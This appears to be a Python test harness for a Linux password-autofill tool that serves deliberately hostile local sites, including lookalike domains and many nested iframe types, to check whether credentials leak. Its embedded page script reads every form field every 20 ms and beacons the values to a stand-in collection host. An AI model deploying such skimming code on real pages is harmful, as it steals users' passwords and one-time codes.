# Passfold: AutoFill for Linux
# SPDX-License-Identifier: Apache-2.0

"""Malicious web sites on one machine: pages in frames of every kind, and a record of what was seen in their fields."""

import base64
import html
import json
import ssl
import subprocess
import threading
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from demo.world import ROOT

# Each host that is served with a certificate trusted by the browser.
HOSTS = ("login.shop.example", "pay.shop.example", "shop.example", "evil.example", "shop.example.evil.example", "notshop.example",
         "xn--shp-sna.example", "hub.example")
HUB = "https://hub.example"

# The positions of controls in the page that asks, in pixels of its view: this lets the user's mouse find them in frames of other processes
# as well.
PLACES = {"username": (20, 20), "password": (20, 120), "code": (20, 220), "get": (420, 20), "create": (420, 120)}
SIZE = (240, 30)

LEAF = """<!doctype html><meta charset="utf-8"><title>Sign in</title><style>
  body { margin: 0 } input, button { position: absolute; box-sizing: border-box; width: 240px; height: 30px; margin: 0 }
</style><form onsubmit="return false"><input id="username" name="username" autocomplete="username webauthn" style="left:20px;top:20px">
<input id="password" type="password" name="password" autocomplete="current-password" style="left:20px;top:120px"></form>
<form onsubmit="return false"><input id="code" name="code" autocomplete="one-time-code" inputmode="numeric" style="left:20px;top:220px"></form>
<button id="get" style="left:420px;top:20px">Sign in</button><button id="create" style="left:420px;top:120px">Add</button><script>
  const tell = (what, value) => { new Image().src = `HUB/seen?${new URLSearchParams({ what, value })}`; };
  const told = {};
  setInterval(() => {
    for (const field of document.querySelectorAll('input')) {
      if (field.value && told[field.id] !== field.value) tell(field.id, told[field.id] = field.value);
    }
  }, 20);
  const bytes = (text) => new TextEncoder().encode(text);
  const rpId = 'shop.example';
  const options = {
    get: { challenge: bytes('a challenge of this page'), rpId, userVerification: 'discouraged' },
    create: { challenge: bytes('a challenge of this page'), rp: { id: rpId, name: 'Shop' }, user: { id: bytes('PERSON'), name: 'anne', displayName: 'Anne' },
      pubKeyCredParams: [{ type: 'public-key', alg: -7 }], authenticatorSelection: { residentKey: 'required', userVerification: 'discouraged' } },
  };
  const ask = (what, more) => {
    // What Passfold leaves to the browser waits for a device that is not there; a person on a busy machine takes a while, too.
    const signal = AbortSignal.timeout(more.mediation ? 600000 : 20000);
    Promise.resolve().then(() => navigator.credentials[what]({ publicKey: options[what], signal, ...more }))
      .then((credential) => tell(what, credential?.id ?? 'nothing'), () => {});
  };
  for (const what of ['get', 'create']) document.getElementById(what)?.addEventListener('click', () => ask(what, {}));
  ask('get', { mediation: 'conditional' });
</script>""".replace("HUB", HUB)

FILL_ALL = "position:fixed;left:0;top:0;width:100%;height:100%;border:0"


def document(chain):
    """Returns the page whose frames are nested as in the chain; the innermost one asks for credentials."""
    if not chain:
        return LEAF
    (kind, given, more), rest = chain[0], chain[1:]
    inner = json.dumps(document(rest)).replace("</", "<\\/")
    attributes = f'id="inner" style="{FILL_ALL};{more.get("style", "")}"' + "".join(
        f' {name}="{html.escape(value)}"' for name, value in more.items() if name != "style")
    frame = f"<iframe {attributes}></iframe><script>const frame = document.getElementById('inner');"
    if kind == "src":
        tag = more.get("tag", "iframe")
        source = html.escape(given + path_of(rest, more.get("headers")))
        if tag == "iframe":
            return f'<!doctype html><body style="margin:0"><iframe {attributes} src="{source}"></iframe>'
        return f'<!doctype html><body style="margin:0"><{tag} {"src" if tag == "embed" else "data"}="{source}" type="text/html" style="{FILL_ALL}"></{tag}>'
    code = {
        "srcdoc": f"frame.srcdoc = {inner};",
        # Inserted as elements: a document that is opened and written to loses its listeners.
        "about:blank": f"""const inside = frame.contentDocument; inside.documentElement.innerHTML = {inner};
          for (const old of inside.querySelectorAll('script')) {{
            const made = inside.createElement('script');
            made.textContent = old.textContent;
            old.replaceWith(made);
          }}""",
        "blob": f"frame.src = URL.createObjectURL(new Blob([{inner}], {{ type: 'text/html' }}));",
        "data": f"frame.src = 'data:text/html;charset=utf-8,' + encodeURIComponent({inner});",
        "javascript": f"globalThis.markup = {inner}; frame.src = 'javascript:parent.markup';",
    }[kind]
    return f'<!doctype html><body style="margin:0">{frame}{code}</script>'


def path_of(chain, headers=None):
    """Returns the path at which every host serves a page with these frames."""
    query = {"chain": base64.urlsafe_b64encode(json.dumps(chain).encode()).decode()}
    if headers:
        query["headers"] = json.dumps(headers)
    return "/page?" + urllib.parse.urlencode(query)


class HostileSite:
    """Serves the pages over TLS and unencrypted, and keeps what they report about their fields."""

    def __init__(self, folder):
        self.folder = folder
        self.told = []
        self.pages = {}
        subprocess.run([str(ROOT / "scripts/make-certificate"), str(folder), *HOSTS], check=True, capture_output=True)
        site = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):
                site.answer(self)

            def log_message(self, *_):
                pass

        self.servers = [ThreadingHTTPServer(("127.0.0.1", 0), Handler) for _ in range(2)]
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(folder / "certificate.pem", folder / "key.pem")
        self.servers[0].socket = context.wrap_socket(self.servers[0].socket, server_side=True, do_handshake_on_connect=False)
        self.secure_port, self.clear_port = (server.server_port for server in self.servers)
        for server in self.servers:
            server.daemon_threads = True
            threading.Thread(target=server.serve_forever, daemon=True).start()

    @property
    def names(self):
        """Yields what a browser's resolver is told: hosts, and hosts with their own ports."""
        yield from ((host, self.secure_port) for host in HOSTS)
        yield "login.shop.example.", self.secure_port
        yield "login.shop.example:8443", self.secure_port
        yield from ((f"{host}:80", self.clear_port) for host in ("login.shop.example", "evil.example"))

    def answer(self, request):
        address = urllib.parse.urlsplit(request.path)
        query = dict(urllib.parse.parse_qsl(address.query))
        headers, body = {}, b""
        if address.path == "/seen":
            self.told.append((query["what"], query["value"]))
        elif address.path == "/page":
            headers = json.loads(query.get("headers", "{}"))
            body = document(json.loads(base64.urlsafe_b64decode(query["chain"]))).encode()
        elif address.path in self.pages:
            body = self.pages[address.path].encode()
        request.send_response(200)
        for name, value in {"Content-Type": "text/html; charset=utf-8", "Content-Length": str(len(body)), **headers}.items():
            request.send_header(name, value)
        request.end_headers()
        request.wfile.write(body)

    def close(self):
        for server in self.servers:
            server.shutdown()
            server.server_close()
